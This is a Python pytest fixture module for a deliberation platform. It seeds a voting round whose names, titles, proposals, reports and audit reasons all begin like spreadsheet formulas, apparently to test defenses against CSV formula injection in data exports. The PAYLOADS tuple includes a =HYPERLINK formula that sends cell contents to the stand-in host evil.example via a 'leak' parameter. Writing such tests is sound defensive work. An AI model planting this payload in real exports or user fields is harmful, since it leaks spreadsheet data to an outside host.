"""A round whose every free-text field starts like a spreadsheet formula."""

from __future__ import annotations

import itertools
from dataclasses import dataclass

import pytest

from deliberation.database import db
from deliberation.engine import escalation
from deliberation.models import Participant, Report, Round, User, audit, utcnow
from deliberation.services import facilitation, moderation
from tests import factories

PAYLOADS = ('=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1", "-x", "@x",
            "\tx", "\rx", "＝1+1")


_numbers = itertools.count(1)


@dataclass
class Poisoned:
    round: Round
    author: User
    participant: Participant
    staff: User
    proposals: list[int]


def make_user(role: str = "citizen", **kwargs: object) -> User:
    """An account without a password (hashing one costs a quarter of a second)."""
    n = next(_numbers)
    user = User(email=f"poisoned{n}@example.org", role=role, kind="resident",
                consent_version="test", consented_at=utcnow(), **kwargs)
    db.session.add(user)
    db.session.commit()
    return user


def build_poisoned(slug: str = "poisoned") -> Poisoned:
    staff = make_user("admin", display_name=PAYLOADS[0])
    author = make_user("citizen", display_name="@author")
    round_ = factories.make_round(slug=slug, title=PAYLOADS[0], phase="voting",
                                  description="-description", open_data_enabled=True)
    participant = factories.make_participant(round_, author)
    others = [factories.make_participant(round_, make_user(display_name=p))
              for p in PAYLOADS]
    proposals = []
    for i, text in enumerate(PAYLOADS):
        proposal = factories.make_proposal(round_, text + f" {i}" if i else text,
                                           author_id=participant.id)
        proposals.append(proposal)
        audit.record("proposal.submit", actor=author, target=proposal, round_id=round_.id)
        for j, voter in enumerate(others):
            factories.add_vote(voter, proposal, (-1, 0, 1)[(i + j) % 3])
        db.session.add(Report(proposal_id=proposal.id, reporter_id=others[i].user_id,
                              reason=PAYLOADS[(i + 1) % len(PAYLOADS)]))
        audit.record("proposal.report", actor=others[i].user, target=proposal,
                     round_id=round_.id, reason=PAYLOADS[(i + 1) % len(PAYLOADS)])
    db.session.commit()
    for proposal in proposals[:3]:
        escalation.escalate_manually(proposal.id, actor=staff, reason=PAYLOADS[2])
    moderation.moderate(round_, [proposals[-1].id], "reject", actor=staff, reason="=1+1")
    facilitation.transition(round_, "close", actor=staff, reason=PAYLOADS[3])
    return Poisoned(round_, author, participant, staff, [p.id for p in proposals])


@pytest.fixture()
def poisoned(db) -> Poisoned:
    return build_poisoned()
